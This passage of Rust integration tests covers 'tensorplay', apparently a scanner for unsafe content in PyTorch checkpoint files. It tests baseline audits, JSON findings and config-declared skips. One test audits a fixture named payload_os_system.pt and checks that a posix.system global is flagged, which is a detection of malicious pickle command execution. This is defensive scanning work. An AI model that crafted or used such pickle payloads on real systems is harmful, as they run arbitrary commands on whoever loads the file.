        "{}",
        stderr(&out)
    );
    // Audited without the file the baseline knows: its entry occurs nowhere.
    let out = tensorplay(&[
        "audit",
        "--baseline",
        baseline,
        "fixtures/pytorch/state_dict.pt",
    ]);
    assert!(
        stderr(&out).contains("1 recorded finding of the baseline occurred nowhere"),
        "{}",
        stderr(&out)
    );
    std::fs::remove_dir_all(&dir).ok();
}

/// TP501 gives the global it names as data too: module, name, member and byte offset.
#[test]
fn an_unsafe_global_is_structured_in_the_json_report() {
    let out = tensorplay(&[
        "audit",
        "--format",
        "json",
        "--fail-on",
        "never",
        "fixtures/pytorch/payload_os_system.pt",
    ]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    let finding = &report["files"][0]["findings"][0];
    assert_eq!(finding["code"], "TP501");
    let global = &finding["global"];
    assert_eq!(
        (&global["module"], &global["name"], &global["member"]),
        (
            &serde_json::json!("posix"),
            &serde_json::json!("system"),
            &serde_json::json!("payload_os_system/data.pkl")
        )
    );
    let offset = global["offset"].as_u64().expect("offset");
    assert!(
        finding["message"]
            .as_str()
            .unwrap()
            .contains(&format!("at byte {offset} references posix.system")),
        "{finding}"
    );
    // Findings about no global carry none.
    let out = tensorplay(&[
        "audit",
        "--format",
        "json",
        "--fail-on",
        "never",
        "fixtures/pytorch/meta.pt",
    ]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("json");
    assert!(report["files"][0]["findings"][0].get("global").is_none());
}

/// A file `tensorplay.toml` declares is not a checkpoint (`[[ignore]]` with a `reason` and no
/// `rules`) is not audited, even when named on the command line as a pre-commit hook names
/// every staged `.bin`: it is listed as skipped with the entry's reason and place in every
/// report that lists skipped files. Without the entry the same file fails as unreadable.
#[test]
fn a_file_declared_not_a_checkpoint_is_skipped_even_when_named() {
    let dir = crate::common::TempDir::new("declared");
    std::fs::create_dir_all(dir.0.join("tokenizer")).expect("tokenizer folder");
    // A tokenizer's binary vocabulary: the `.bin` extension, no checkpoint inside.
    std::fs::write(
        dir.0.join("tokenizer/vocab.bin"),
        b"\x0a\x05hello\x10\x01 not a checkpoint\n",
    )
    .expect("junk file");
    let run = |args: &[&str]| -> (Option<i32>, String, String, serde_json::Value) {
        let out = Command::new(env!("CARGO_BIN_EXE_tensorplay"))
            .args(["audit", "--color", "never", "--json", "report.json"])
            .args(["--junit", "report.xml", "--html", "report.html"])
            .args(args)
            .current_dir(&dir.0)
            .env_remove("GITHUB_ACTIONS")
            .env_remove("GITHUB_STEP_SUMMARY")
            .output()
            .expect("tensorplay runs");
        let report = std::fs::read_to_string(dir.0.join("report.json")).expect("JSON report");
        (
            out.status.code(),
            stdout(&out),
            stderr(&out),
            serde_json::from_str(&report).expect("JSON"),
        )
    };

    let (code, log, _, report) = run(&["tokenizer/vocab.bin"]);
    assert_eq!(code, Some(1), "{log}");
    assert_eq!(report["files"][0]["path"], "tokenizer/vocab.bin");
    assert_eq!(
        report["files"][0]["findings"][0]["code"], "TP502",
        "{report:#}"
    );
    assert_eq!(report["skipped"], serde_json::json!([]));

    std::fs::write(
        dir.0.join("tensorplay.toml"),
        "# The tokenizer's files share the checkpoints' extension.\n\
         [[ignore]]\npath = \"tokenizer/*.bin\"\nreason = \"not a checkpoint\"\n",
    )
    .expect("config");
    let reason = "not a checkpoint (tensorplay.toml:3)";
    // The only file named is declared: judged, not "nothing to audit".
    let (code, log, warnings, report) = run(&["tokenizer/vocab.bin"]);
    assert_eq!(code, Some(0), "{log}{warnings}");
    assert_eq!(report["files"], serde_json::json!([]));
    assert_eq!(
        report["skipped"],
        serde_json::json!([{"path": "tokenizer/vocab.bin", "reason": reason, "rule": "declared"}])
    );
    assert_eq!(report["summary"]["passed"], true);
    assert!(
        log.contains(&format!("skipped tokenizer/vocab.bin: {reason}")),
        "{log}"
    );
    assert!(!warnings.contains("matched no"), "{warnings}");
    for other in ["report.xml", "report.html"] {
        let text = std::fs::read_to_string(dir.0.join(other)).expect(other);
        assert!(text.contains(reason), "{other}: {text}");
    }

    // Beside a checkpoint, which is audited as ever.
    let overlapping = root().join("fixtures/pytorch/overlapping_params.pt");
    let (code, log, _, report) = run(&[overlapping.to_str().unwrap(), "tokenizer/vocab.bin"]);
    assert_eq!(code, Some(1), "{log}");
    assert_eq!(report["files"].as_array().map(Vec::len), Some(1));
    assert_eq!(report["skipped"][0]["reason"], reason);

    // An entry that skips nothing in a run is said, as a file (not a checkpoint) it missed.
    let (code, _, warnings, _) = run(&[overlapping.to_str().unwrap()]);
    assert_eq!(code, Some(1));
    assert!(
        warnings.contains(
            "warning: tensorplay.toml:3: [[ignore]] path = \"tokenizer/*.bin\" matched no file"
        ),
        "{warnings}"
    );
}
